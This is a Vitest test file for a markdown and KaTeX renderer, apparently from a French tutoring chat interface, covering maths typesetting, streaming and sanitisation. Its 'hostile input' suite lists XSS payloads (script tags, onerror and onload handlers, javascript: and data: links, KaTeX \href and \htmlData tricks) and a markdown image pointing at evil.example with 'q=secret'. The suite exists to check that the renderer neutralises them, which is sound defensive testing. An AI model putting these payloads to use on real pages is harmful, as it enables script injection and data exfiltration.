// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { hideUnclosedMath, isSafeHref, renderMarkdown } from './markdown.ts';

function dom(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

/** Everything that could run code or fetch something once the HTML is in the page. */
function assertInert(html: string): void {
  const root = dom(html);
  expect(root.querySelectorAll('script, img, image, iframe, object, embed, style, link, use, foreignObject, form')).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const attr of Array.from(element.attributes)) {
      expect(attr.name.toLowerCase().startsWith('on'), `${element.tagName} ${attr.name}`).toBe(false);
      expect(['src', 'srcset', 'xlink:href', 'action', 'formaction']).not.toContain(attr.name.toLowerCase());
      if (attr.name === 'href') expect(isSafeHref(attr.value), attr.value).toBe(true);
      if (attr.name === 'style') expect(attr.value).not.toMatch(/url\s*\(/i);
      expect(attr.value).not.toMatch(/(javascript|vbscript|data):/i);
    }
  }
  // Text may mention "javascript:" (shown, not run): only markup matters.
  expect(html).not.toMatch(/<(script|img|iframe|svg\b[^>]*\son)/i);
}

describe('renderMarkdown: maths', () => {
  it('typesets $…$ and \\(…\\) inline', () => {
    const root = dom(renderMarkdown('Soit $x^2 + 1$ et \\(\\frac{a}{b}\\).'));
    const formulas = root.querySelectorAll('p > .katex');
    expect(formulas).toHaveLength(2);
    expect(root.querySelector('.katex-html')).not.toBeNull();
    expect(root.textContent).toContain('Soit');
    expect(root.innerHTML).toContain('mfrac');
  });

  it('typesets $$…$$ and \\[…\\] as display maths, on one line or several', () => {
    const source = ['$$\\int_0^1 x\\,dx = \\frac12$$', '', '\\[', 'a^2 + b^2 = c^2', '\\]', '', 'Fin.'].join('\n');
    const root = dom(renderMarkdown(source));
    const displays = root.querySelectorAll('div.math-display .katex-display');
    expect(displays).toHaveLength(2);
    expect(root.querySelector('p')?.textContent).toBe('Fin.');
  });

  it('keeps the MathML for screen readers but not the loose TeX source', () => {
    const root = dom(renderMarkdown('$\\sqrt{2}$'));
    expect(root.querySelector('math')).not.toBeNull();
    expect(root.querySelector('annotation')).toBeNull();
    expect(root.querySelector('.katex-mathml')?.textContent).not.toContain('\\sqrt');
  });

  it('leaves prices and lone dollars as text', () => {
    const root = dom(renderMarkdown('Il a 5 $ et elle a 10 $ ; un $ seul.'));
    expect(root.querySelector('.katex')).toBeNull();
    expect(root.textContent).toContain('5 $ et elle a 10 $');
  });

  it('does not let markdown emphasis break a formula', () => {
    const root = dom(renderMarkdown('$a_1 * b_2 * c$'));
    expect(root.querySelector('em')).toBeNull();
    expect(root.querySelector('.katex')).not.toBeNull();
  });

  it('shows invalid TeX as an error text instead of throwing', () => {
    const html = renderMarkdown('$\\frac{1}{$ puis $\\undefinedmacro{x}$');
    expect(html).toBeTypeOf('string');
    assertInert(html);
  });

  it('stops runaway macro expansion', () => {
    const bomb = '$\\def\\a{\\a\\a}\\a$';
    const html = renderMarkdown(bomb);
    assertInert(html);
  });

  it('renders ordinary markdown: emphasis, lists, code, tables stay text-safe', () => {
    const root = dom(renderMarkdown('**Étape 1** :\n\n1. lire\n2. calculer\n\n`x = 2`'));
    expect(root.querySelector('strong')?.textContent).toBe('Étape 1');
    expect(root.querySelectorAll('ol > li')).toHaveLength(2);
    expect(root.querySelector('code')?.textContent).toBe('x = 2');
  });
});

describe('renderMarkdown: hostile input', () => {
  const payloads: [string, string][] = [
    ['script tag', '<script>alert(1)</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['style tag', '<style>body{background:url(https://evil.example/x)}</style>'],
    ['javascript link', '[clique](javascript:alert(1))'],
    ['javascript link, mixed case and entities', '[clique](JaVaScRiPt&#58;alert(1))'],
    ['javascript link with a tab', '[clique](java\tscript:alert(1))'],
    ['javascript autolink', '<javascript:alert(1)>'],
    ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript link', '[x](vbscript:msgbox(1))'],
    ['markdown image, external', '![la conversation](https://evil.example/log?q=secret)'],
    ['markdown image, data', '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)'],
    ['reference image', '![photo][ref]\n\n[ref]: https://evil.example/p.png'],
    ['katex href', '$\\href{javascript:alert(1)}{clique}$'],
    ['katex url', '$\\url{javascript:alert(1)}$'],
    ['katex https href', '$\\href{https://evil.example}{x}$'],
    ['katex includegraphics', '$\\includegraphics{https://evil.example/x.png}$'],
    ['katex htmlStyle', '$\\htmlStyle{background:url(https://evil.example/x)}{x}$'],
    ['katex htmlData', '$\\htmlData{onclick=alert(1)}{x}$'],
    ['html in LaTeX text', '$\\text{<img src=x onerror=alert(1)>}$'],
    ['html in display LaTeX', '$$\\text{<script>alert(1)</script>}$$'],
    ['unclosed html in LaTeX', '$\\text{<svg/onload=alert(1)}$'],
    ['attribute breakout in a link title', '[x](https://ok.example "a\\" onmouseover=\\"alert(1))'],
    ['math with html around', '<b onclick=alert(1)>$x$</b>'],
  ];

  for (const [name, payload] of payloads) {
    it(`neutralises: ${name}`, () => {
      const html = renderMarkdown(payload);
      assertInert(html);
    });
  }

  it('shows raw HTML as text, not markup', () => {
    const root = dom(renderMarkdown('<script>alert(1)</script>'));
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  it('renders a markdown image as its alt text only', () => {
    const root = dom(renderMarkdown('Voir ![le schéma du cœur](https://evil.example/x.png) ici'));
    expect(root.querySelector('img')).toBeNull();
    expect(root.innerHTML).not.toContain('evil.example');
    expect(root.querySelector('.md-image-alt')?.textContent).toContain('le schéma du cœur');
  });

  it('renders a rejected link as text', () => {
    const root = dom(renderMarkdown('[clique](javascript:alert(1))'));
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toContain('clique');
  });

  it('keeps http(s) and relative links, opening in a new tab without referrer', () => {
    const root = dom(renderMarkdown('[Éduscol](https://eduscol.education.fr/) et [aide](/aide)'));
    const links = root.querySelectorAll('a');
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
    expect(links[0]!.getAttribute('href')).toBe('https://eduscol.education.fr/');
    expect(links[1]!.getAttribute('href')).toBe('/aide');
  });

  it('does not turn bare URLs into links (linkify is off)', () => {
    const root = dom(renderMarkdown('Va sur https://exemple.fr'));
    expect(root.querySelector('a')).toBeNull();
  });

  it('keeps KaTeX link commands as inert text', () => {
    const root = dom(renderMarkdown('$\\href{https://evil.example}{x}$ et $\\url{https://evil.example}$'));
    expect(root.querySelector('a')).toBeNull();
  });
});

describe('isSafeHref', () => {
  it.each([
    ['https://exemple.fr/a?b=c', true],
    ['http://exemple.fr', true],
    ['/relatif', true],
    ['relatif/page', true],
    ['#ancre', true],
    ['javascript:alert(1)', false],
    [' javascript:alert(1)', false],
    ['java\nscript:alert(1)', false],
    ['JAVASCRIPT:alert(1)', false],
    ['data:text/html,x', false],
    ['vbscript:x', false],
    ['file:///etc/passwd', false],
    ['mailto:a@b.fr', false],
    ['', false],
  ])('%j → %s', (href, expected) => {
    expect(isSafeHref(href)).toBe(expected);
  });
});

describe('renderMarkdown: streaming', () => {
  const answer = [
    '## Méthode',
    '',
    'On cherche $x$ tel que $2x + 3 = 7$. Donc :',
    '',
    '$$',
    '2x = 7 - 3 \\quad\\Rightarrow\\quad x = \\frac{4}{2} = 2',
    '$$',
    '',
    '- vérifie : \\(2 \\times 2 + 3 = 7\\)',
    '- [fiche](https://exemple.fr/fiche) et ![figure](https://evil.example/f.png)',
    '',
    '```python',
    'print("ok")',
    '```',
    '',
    '\\[ \\sum_{k=1}^{n} k = \\frac{n(n+1)}{2} \\]',
  ].join('\n');

  it('renders every prefix of an answer without throwing and without unsafe output', () => {
    for (let end = 0; end <= answer.length; end++) {
      const html = renderMarkdown(answer.slice(0, end));
      expect(typeof html).toBe('string');
      // Checking the DOM of every prefix is slow in jsdom; a sample plus the full answer is enough.
      if (end % 9 === 0 || end === answer.length) assertInert(html);
    }
  });

  it('shows an unclosed formula as text until it closes, then typesets it', () => {
    const partial = dom(renderMarkdown('$$\n2x = 7 - 3'));
    expect(partial.querySelector('.katex')).toBeNull();
    expect(partial.textContent).toContain('2x = 7 - 3');
    const complete = dom(renderMarkdown('$$\n2x = 7 - 3\n$$'));
    expect(complete.querySelector('.katex-display')).not.toBeNull();
  });
});

describe('hideUnclosedMath', () => {
  it.each([
    ['Texte $$x = ', 'Texte '],
    ['Texte $$x$$ suite', 'Texte $$x$$ suite'],
    ['A \\[ \\frac{1}{', 'A '],
    ['A \\[ x \\] B \\(y', 'A \\[ x \\] B '],
    ['prix : 5 $ et $x$', 'prix : 5 $ et $x$'],
    ['échappé \\$$ reste', 'échappé \\$$ reste'],
    ['$$a$$ puis $$b', '$$a$$ puis '],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(hideUnclosedMath(input)).toBe(expected);
  });
});
